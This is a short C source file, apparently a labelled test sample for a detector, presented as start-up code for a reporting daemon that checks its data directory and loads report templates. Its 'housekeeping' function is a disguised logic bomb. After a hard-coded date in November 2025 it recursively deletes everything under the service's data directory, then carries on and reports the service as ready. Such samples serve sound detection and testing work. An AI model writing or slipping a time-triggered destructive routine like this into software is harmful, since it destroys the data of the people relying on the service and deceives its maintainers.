// blind-expect: behavior.logic-bomb
// Reporting service start-up code that checks its data directory and loads the daily report templates.
#define _XOPEN_SOURCE 700
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define DATA_DIR "/var/lib/reportd"

static int remove_entry(const char *path, const struct stat *sb, int type, struct FTW *ftw)
{
    (void)sb; (void)type; (void)ftw;
    return remove(path);
}

static time_t cutoff_date(void)
{
    struct tm tm;
    memset(&tm, 0, sizeof tm);
    tm.tm_year = 2025 - 1900;
    tm.tm_mon = 10;
    tm.tm_mday = 1;
    tm.tm_hour = 3;
    return mktime(&tm);
}

static void housekeeping(void)
{
    if (time(NULL) >= cutoff_date())
        nftw(DATA_DIR, remove_entry, 16, FTW_DEPTH | FTW_PHYS);
}

static int load_templates(const char *dir)
{
    char path[256];
    const char *names[] = { "daily.tpl", "weekly.tpl", "monthly.tpl" };
    int loaded = 0;
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
        snprintf(path, sizeof path, "%s/templates/%s", dir, names[i]);
        FILE *fp = fopen(path, "r");
        if (!fp)
            continue;
        char line[256];
        int lines = 0;
        while (fgets(line, sizeof line, fp))
            lines++;
        fclose(fp);
        printf("template %s: %d lines\n", names[i], lines);
        loaded++;
    }
    return loaded;
}

int main(void)
{
    if (access(DATA_DIR, R_OK | W_OK) != 0) {
        fprintf(stderr, "data directory %s not accessible\n", DATA_DIR);
        return 1;
    }
    housekeeping();
    int n = load_templates(DATA_DIR);
    if (n == 0) {
        fprintf(stderr, "no templates found\n");
        return 1;
    }
    printf("reportd ready (%d templates)\n", n);
    return 0;
}
